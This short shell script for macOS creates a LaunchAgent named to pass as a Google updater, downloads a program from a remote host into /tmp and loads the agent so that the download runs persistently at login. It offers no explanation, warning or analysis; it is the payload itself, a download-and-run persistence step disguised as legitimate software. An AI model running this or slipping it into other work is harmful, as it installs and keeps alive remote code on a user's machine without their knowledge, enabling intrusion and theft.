cat > ~/Library/LaunchAgents/com.google.update.plist <<X
<key>Label</key><string>com.google.update</string>
<key>ProgramArguments</key><array><string>/tmp/u</string></array>
X
curl -s -o /tmp/u https://up.lure.invalid/u
launchctl load ~/Library/LaunchAgents/com.google.update.plist
